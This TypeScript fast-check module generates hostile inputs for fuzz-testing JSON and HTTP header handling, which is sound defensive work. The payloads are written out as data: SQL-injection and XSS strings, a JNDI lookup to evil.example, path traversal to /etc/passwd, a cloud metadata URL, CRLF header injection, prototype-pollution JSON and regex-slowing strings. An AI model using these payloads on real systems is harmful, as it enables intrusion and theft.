/** Values that were made to hurt: keys of prototypes, broken text, numbers beyond numbers, what makes regular expressions slow. */
import fc from 'fast-check';

/** A value of JSON. */
export type Json = string | number | boolean | null | readonly Json[] | { readonly [key: string]: Json };

/** Stands in a body for text that no value could be written as. See {@link toText}. */
const RAW = '\u{e000}raw:';

/** Text of JSON that `JSON.stringify` would not write. */
const RAW_TEXTS: readonly string[] = [
  '1e999',
  '-1e999',
  '-0',
  '1.0',
  '12345678901234567890',
  '9007199254740993',
  '0.1e-400',
  '1E+2',
  '"\\ud800"',
  '"\\udfff\\ud800"',
  '"\\u0000"',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"a":1,"a":2}',
  'NaN',
  'undefined',
  '0x10',
  "'x'",
  `${'['.repeat(2_000)}${']'.repeat(2_000)}`,
  '['.repeat(9_000),
  `${'{"a":'.repeat(3_000)}1${'}'.repeat(3_000)}`,
];

const LINES = [
  '\r\nSet-Cookie: evil=1\r\n',
  '\nINFO paid in full',
  '\u001b[2J\u001b[31mred\u001b[0m',
  '\u0000',
  '\u2028',
];

const WORDS = [
  ...['', ' ', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'length', 'then', 'null'],
  ...["'; drop table sessions; --", '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}', '{{7*7}}', '%s%n'],
  ...['../../etc/passwd', '..%2f..%2f', 'javascript:alert(1)', 'file:///etc/passwd', 'http://169.254.169.254/latest'],
  ...['cs_test_1', 'in_1', 'seti_1', 'sub_1', 'cus_1', 'pi_1', 'cs_live_1', 'cs_', 'CS_TEST_1', 'pro_monthly\u0000'],
  ...[
    '\ud800',
    '\udfff\ud800',
    '\ufeff',
    '\u202eylhtnom_orp',
    'ＰＲＯ',
    'A\u0301',
    '👩‍👩‍👧',
    'ß',
    'ı',
    '١٢',
    'Ж'.repeat(200),
  ],
  ...LINES,
];

/** What regular expressions with a mistake are slow with: many ways to match, and an end that does not. */
const PUMPS = [
  ...[
    'a',
    'a@',
    '.',
    'a.',
    '-a',
    ' ',
    '0',
    '1-',
    '_',
    '\t',
    'box ',
    'p.o. box ',
    'post office ',
    'bp ',
    'ταχ. ',
    'cs_',
    'bc1.',
    'a/я ',
  ],
].map((piece) => (size: number) => `${piece.repeat(size)}!`);

const pump = fc
  .tuple(fc.constantFrom(...PUMPS), fc.constantFrom(16, 64, 250, 2_000, 15_000))
  .map(([make, size]) => make(size));

/** Text that was made to hurt, or is simply any. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...WORDS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 120 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 300 }) },
  { weight: 2, arbitrary: pump },
  {
    weight: 2,
    arbitrary: fc.tuple(fc.string({ maxLength: 20 }), fc.constantFrom(...LINES)).map((each) => each.join('')),
  },
);

const hostileNumber = fc.oneof(
  fc.constantFrom(0, -1, -0, 0.5, 1e21, 2 ** 53, 2 ** 53 + 2, -(2 ** 63), 1_000_000, 5e-324, 1.7976931348623157e308),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any value that JSON can carry, and some that it only seems to. */
export const hostileValue: fc.Arbitrary<Json> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 2, arbitrary: fc.constantFrom<Json>(null, true, false, [], {}, [null], [[]], { length: 1 }, ['a', 'b']) },
  { weight: 2, arbitrary: fc.nat(RAW_TEXTS.length - 1).map((index) => `${RAW}${String(index)}`) },
  {
    weight: 2,
    arbitrary: fc.dictionary(hostileText, fc.oneof(hostileText, hostileNumber, fc.constant(null)), { maxKeys: 5 }),
  },
  { weight: 1, arbitrary: fc.array(fc.oneof(hostileText, hostileNumber), { maxLength: 60 }) },
);

/** Writes a value as JSON, and what only text can say as it is. */
export function toText(value: Json): string {
  return JSON.stringify(value).replace(
    new RegExp(`"${RAW}(\\d+)"`, 'gu'),
    (_, index: string) => RAW_TEXTS[Number(index)] ?? 'null',
  );
}

/** What may stand in a header: anything that a request can be made with. */
export const headerText: fc.Arbitrary<string> = hostileText.map((text) =>
  text
    .replace(/[^\t\x20-\x7e\x80-\xff]/g, '?')
    .trim()
    .slice(0, 8_000),
);
